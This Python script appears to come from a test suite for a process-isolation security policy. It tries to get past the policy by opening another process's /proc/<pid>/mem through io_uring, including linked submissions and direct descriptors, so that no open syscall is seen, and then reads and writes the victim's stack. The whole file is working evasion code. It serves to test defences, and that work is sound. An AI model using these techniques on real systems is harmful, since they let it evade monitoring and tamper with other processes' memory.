# proc-mem.py's attack with the open submitted through io_uring instead of open(2)/openat(2): no
# open syscall runs, so where BPF LSM is missing the syscall-exit check never sees it. Two ways,
# each in a child (the fallback kills the task whose open completes): IORING_OP_OPENAT of "mem"
# relative to a /proc/<pid> descriptor into a normal descriptor, read and written with
# pread/pwrite; IORING_OP_OPENAT2 into a direct descriptor (a slot of the ring's own file table,
# never in the process's), read and written by IORING_OP_READ/WRITE on that slot.
# LINKED=1: the second way in one submission, the read linked to the open and the write to the
# read (IOSQE_IO_LINK): the kernel issues each as the one before completes, before the submitter
# is back in user space, where a kill sent at the open's completion would land. The ring is made
# before the child that submits, so its completions are read even if that child dies.
import ctypes, struct
from _common import *

yama_refuses("open")
VICTIM = int(os.environ["VICTIM_PID"])
OPENAT, READ, WRITE, OPENAT2 = 18, 22, 23, 28
IOSQE_FIXED_FILE, IOSQE_IO_LINK = 1, 4


def stack_end():
    # /proc/<pid>/maps needs ptrace's read mode only, which no policy here refuses
    with open(f"/proc/{VICTIM}/maps") as f:
        stack = next((l for l in f if l.rstrip().endswith("[stack]")), None)
    return int(stack.split()[0].split("-")[1], 16) if stack else None


def err(res):
    return errno.errorcode.get(-res, str(res))


def descriptor():
    end = stack_end()
    if not end:
        return "no [stack] in the victim's maps"
    ring = Ring()
    d = os.open(f"/proc/{VICTIM}", os.O_PATH | os.O_DIRECTORY)
    name = ctypes.create_string_buffer(b"mem")
    fd = ring.run(OPENAT, fd=d, addr=ctypes.addressof(name), op_flags=os.O_RDWR)
    if fd < 0:
        return f"IORING_OP_OPENAT: {err(fd)}"
    got = os.pread(fd, 16, end - 16)
    put = os.pwrite(fd, got, end - 16)
    return f"opened, read {len(got)} bytes of its stack, wrote {put} back"


def direct():
    end = stack_end()
    if not end:
        return "no [stack] in the victim's maps"
    ring = Ring()
    r = ring.register_files([-1])
    if r < 0:
        return f"unsupported: IORING_REGISTER_FILES: {err(r)}"
    path = ctypes.create_string_buffer(f"/proc/{VICTIM}/mem".encode())
    how = ctypes.create_string_buffer(struct.pack("=QQQ", os.O_RDWR, 0, 0))  # struct open_how
    res = ring.run(OPENAT2, fd=-100, addr=ctypes.addressof(path), length=24, off=ctypes.addressof(how), file_index=1)
    if res == -errno.EINVAL:
        return "unsupported: IORING_OP_OPENAT2 into a direct descriptor: EINVAL (5.15+)"
    if res < 0:
        return f"IORING_OP_OPENAT2: {err(res)}"
    if res > 0:
        # a kernel without direct descriptors ignores file_index: a descriptor came back
        os.close(res)
        return "unsupported: direct descriptors: the kernel ignored file_index and returned a descriptor"
    buf = ctypes.create_string_buffer(16)
    got = ring.run(READ, fd=0, flags=IOSQE_FIXED_FILE, addr=ctypes.addressof(buf), length=16, off=end - 16)
    if got < 0:
        return f"opened, IORING_OP_READ: {err(got)}"
    put = ring.run(WRITE, fd=0, flags=IOSQE_FIXED_FILE, addr=ctypes.addressof(buf), length=got, off=end - 16)
    return f"opened, read {got} bytes of its stack, wrote {put if put >= 0 else err(put)} back"


def linked():
    end = stack_end()
    if not end:
        unsupported("no [stack] in the victim's maps")
    try:
        ring = Ring()
    except OSError as e:
        unsupported(f"{e.strerror}: no io_uring for this user here")
    r = ring.register_files([-1])
    if r < 0:
        unsupported(f"IORING_REGISTER_FILES: {err(r)}")
    path = ctypes.create_string_buffer(f"/proc/{VICTIM}/mem".encode())
    how = ctypes.create_string_buffer(struct.pack("=QQQ", os.O_RDWR, 0, 0))  # struct open_how
    buf = ctypes.create_string_buffer(16)
    chain = [dict(opcode=OPENAT2, fd=-100, addr=ctypes.addressof(path), length=24, off=ctypes.addressof(how), file_index=1, flags=IOSQE_IO_LINK),
             dict(opcode=READ, fd=0, flags=IOSQE_FIXED_FILE | IOSQE_IO_LINK, addr=ctypes.addressof(buf), length=16, off=end - 16),
             dict(opcode=WRITE, fd=0, flags=IOSQE_FIXED_FILE, addr=ctypes.addressof(buf), length=16, off=end - 16)]
    got, how_ = ring.submit_in_child(chain)
    if got.get(0) == -errno.EINVAL:
        unsupported("IORING_OP_OPENAT2 into a direct descriptor: EINVAL (5.15+)")
    if got.get(0) == -errno.ECANCELED and got.get(1) == -errno.EBADF:
        # the chain failed as it was submitted: the read's fixed file was looked up then, before
        # the open could fill the slot, and its failure cancelled the whole chain, open included
        unsupported("a linked read of a direct descriptor the chain opens: this kernel resolves a request's fixed file when it is submitted (EBADF), which cancels the chain, the open included (ECANCELED)")
    res = [got[i] if got.get(i, -1) >= 0 else err(got[i]) if i in got else "no completion" for i in range(3)]
    report(got.get(1, -1) == 16, f"/proc/{VICTIM}/mem (outside the policy) through io_uring, one submission: IORING_OP_OPENAT2 → direct descriptor {res[0]}, then linked: read {res[1]} bytes of its stack, wrote {res[2]} back; child {how_}")


if os.environ.get("LINKED") == "1":
    linked()  # reports: ends the attack
try:
    Ring()
except OSError as e:
    unsupported(f"{e.strerror}: no io_uring for this user here")
parts = []
for what, fn in (("IORING_OP_OPENAT → descriptor", descriptor), ("IORING_OP_OPENAT2 → direct descriptor", direct)):
    said, how = in_child(fn)
    parts.append((what, said, how))
tried = [p for p in parts if not p[1].startswith("unsupported")]
if not tried:
    unsupported("; ".join(f"{w}: {s}" for w, s, _ in parts))
report(any(s.startswith("opened, read 16") for _, s, _ in tried), f"/proc/{VICTIM}/mem (outside the policy) through io_uring: " + "; ".join(f"{w}: child {s or 'said nothing'}, {h}" for w, s, h in parts))
